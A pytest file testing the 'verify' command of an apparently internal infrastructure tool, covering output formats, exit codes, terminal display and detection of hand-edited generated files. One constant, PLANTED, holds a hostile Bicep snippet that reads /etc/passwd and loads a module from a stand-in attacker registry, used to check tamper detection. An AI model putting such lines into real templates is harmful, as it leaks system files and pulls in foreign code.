"""The verb `verify`: what it prints, in both forms, and its exit codes."""

from __future__ import annotations

import json
from io import StringIO
from pathlib import Path

import pytest

from mlinfra.cli import run
from mlinfra.verify import judges
from mlinfra.verify.case import Case
from mlinfra.verify.judges import Judge
from mlinfra.verify.verdict import Finding, NotInstalled, Opinion
from tests.verify.platforms import written

ADDRESSES = ("workspaces.a", "workspaces.b", "workspaces.c", "workspaces.d")


def _content(case: Case) -> Opinion:
    return Opinion("1.2", (), ("what a reader should know",))


def _strict(case: Case) -> Opinion:
    findings = (
        Finding("prod/infra/main.bicep", 7, 'said "no"\nand why', ADDRESSES),
        Finding("README.md", None, "is too long"),
        Finding(None, None, "about all of it"),
    )
    return Opinion("3", findings)


def _absent(case: Case) -> Opinion:
    raise NotInstalled("install it")


CONTENT, STRICT, ABSENT = (
    Judge("a content judge", "", _content),
    Judge("strict", "", _strict),
    Judge("away", "", _absent),
)
TEXT = """\
a content judge  passed         1.2
  note: what a reader should know
strict           failed         3
  generated/plain/prod/infra/main.bicep:7: said "no"\\nand why [workspaces.a, workspaces.b, workspaces.c, … and 1 more]
  generated/plain/README.md: is too long
  about all of it
away             not installed
  note: install it
1 passed, 1 failed, 1 not installed
strict failed: generated/plain/prod/infra/main.bicep:7: said "no"\\nand why [workspaces.a, workspaces.b, workspaces.c, \
… and 1 more]
"""
DOCUMENT = {
    "judges": [
        {
            "judge": "a content judge",
            "verdict": "passed",
            "version": "1.2",
            "findings": [],
            "notes": ["what a reader should know"],
        },
        {
            "judge": "strict",
            "verdict": "failed",
            "version": "3",
            "findings": [
                {
                    "message": 'said "no"\nand why',
                    "file": "generated/plain/prod/infra/main.bicep",
                    "line": 7,
                    "addresses": list(ADDRESSES),
                },
                {"message": "is too long", "file": "generated/plain/README.md", "line": None, "addresses": []},
                {"message": "about all of it", "file": None, "line": None, "addresses": []},
            ],
            "notes": [],
        },
        {"judge": "away", "verdict": "not installed", "version": None, "findings": [], "notes": ["install it"]},
    ],
    "summary": {"passed": 1, "failed": 1, "not_installed": 1},
}


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("plain")
    written("plain", root)
    return root


@pytest.fixture
def here(root: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(root)
    return root


def _judged_by(monkeypatch: pytest.MonkeyPatch, *chosen: Judge) -> None:
    monkeypatch.setattr(judges, "JUDGES", chosen)


def test_text_names_each_verdict_with_its_findings(
    here: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _judged_by(monkeypatch, CONTENT, STRICT, ABSENT)
    assert run(["verify", "-f", "specs/plain"]) == 1
    assert capsys.readouterr() == (TEXT, "")


def test_each_verdict_is_printed_before_the_next_judge_looks(
    here: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    printed: list[str] = []

    def _last(case: Case) -> Opinion:
        printed.append(capsys.readouterr().out)
        return Opinion("4", ())

    _judged_by(monkeypatch, CONTENT, STRICT, Judge("last", "", _last))
    run(["verify", "-f", "specs/plain"])
    assert printed == [TEXT[: TEXT.index("away")]]


def test_json_is_one_document(here: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    _judged_by(monkeypatch, CONTENT, STRICT, ABSENT)
    assert run(["verify", "-f", "specs/plain", "-o", "json"]) == 1
    out, err = capsys.readouterr()
    assert (json.loads(out), err) == (DOCUMENT, "")


@pytest.mark.parametrize(
    ("chosen", "options", "exit_code"),
    [
        ((CONTENT,), [], 0),
        ((CONTENT, ABSENT), [], 1),
        ((CONTENT, ABSENT), ["--available"], 0),
        ((STRICT, ABSENT), ["--available"], 1),
    ],
    ids=["all passed", "one is away", "one is away, and need not be there", "one failed"],
)
def test_the_exit_code_says_whether_a_judge_failed(
    chosen: tuple[Judge, ...], options: list[str], exit_code: int, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _judged_by(monkeypatch, *chosen)
    assert run(["verify", "-f", "specs/plain", *options]) == exit_code


class _Terminal(StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("options", "term", "said"),
    [
        ([], "xterm", "\r\x1b[Ka content judge …\r\x1b[K\r\x1b[Kaway …\r\x1b[K"),
        (["-q"], "xterm", ""),
        ([], "dumb", ""),
    ],
)
def test_a_terminal_shows_who_is_judging(
    options: list[str], term: str, said: str, here: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _judged_by(monkeypatch, CONTENT, ABSENT)
    terminal = _Terminal()
    monkeypatch.setattr("sys.stderr", terminal)
    monkeypatch.setenv("TERM", term)
    run([*options, "-f", "specs/plain", "verify"])
    assert terminal.getvalue() == said


def test_a_folder_without_output_is_wrong_usage(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["verify", "-f", "specs/plain", "--outdir", "elsewhere"]) == 3
    assert capsys.readouterr().err.splitlines()[-1] == (
        "Error: elsewhere holds no output to look at; `mlinfra compile` writes it"
    )


def test_the_output_of_another_spec_is_not_judged(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    other = here / "specs" / "other"
    other.mkdir()
    text = (here / "specs/plain/ml-platform.yaml").read_text().replace("code: src", "code: ../plain/src")
    (other / "ml-platform.yaml").write_text(text)
    assert run(["verify", "-f", "specs/other", "--outdir", "generated/plain"]) == 1
    assert capsys.readouterr().err.splitlines()[0] == (
        "generated/plain/manifest.json:1:1: error[MLI803]: the output folder is that of specs/plain/ml-platform.yaml, "
        "not of specs/other/ml-platform.yaml"
    )


def test_a_spec_with_errors_is_answered_with_them(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wrong = here / "specs" / "wrong"
    wrong.mkdir()
    (wrong / "ml-platform.yaml").write_text("apiVersion: mlinfra/v0\n")
    assert run(["verify", "-f", "specs/wrong", "--outdir", "generated/plain"]) == 1
    assert "specs/wrong/ml-platform.yaml:1:13: error[" in capsys.readouterr().err


PLANTED = "output passwd string = loadTextContent('/etc/passwd')\nmodule more 'br:evil.azurecr.io/x:1' = {}\n"


def test_an_edited_file_is_said_and_no_judge_gets_to_see_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    compiled = written("plain", tmp_path).texts
    infra = tmp_path / "generated" / "plain" / "prod" / "infra"
    (infra / "storage.bicep").write_text(PLANTED)
    (infra / "more.bicep").write_text(PLANTED)
    (infra / "bicepconfig.json").write_text("{")
    seen: dict[str, str] = {}

    def look(case: Case) -> Opinion:
        with case.laid_out(case.files(".bicep", ".bicepparam")) as folder:
            found = (path for path in folder.rglob("*") if path.is_file())
            seen.update({path.relative_to(folder).as_posix(): path.read_text(encoding="utf-8") for path in found})
        return Opinion("1", ())

    _judged_by(monkeypatch, judges.JUDGES[0], Judge("a judge", "", look))
    monkeypatch.chdir(tmp_path)
    assert run(["verify", "-f", "specs/plain"]) == 1
    said = capsys.readouterr().out.splitlines()
    foreign = "was not written by mlinfra, and tools obey it"
    assert said[1].startswith(f"  generated/plain/prod/infra/bicepconfig.json: {foreign}")
    assert said[2].startswith(f"  generated/plain/prod/infra/more.bicep: {foreign}")
    assert said[3].startswith("  generated/plain/prod/infra/storage.bicep: was edited by hand [")
    assert said[4:6] == ["a judge          passed         1", "1 passed, 1 failed"]
    assert said[6].startswith(f"compile --check failed: generated/plain/prod/infra/bicepconfig.json: {foreign}")
    assert seen == {path: text for path, text in compiled.items() if path.endswith((".bicep", ".bicepparam"))}
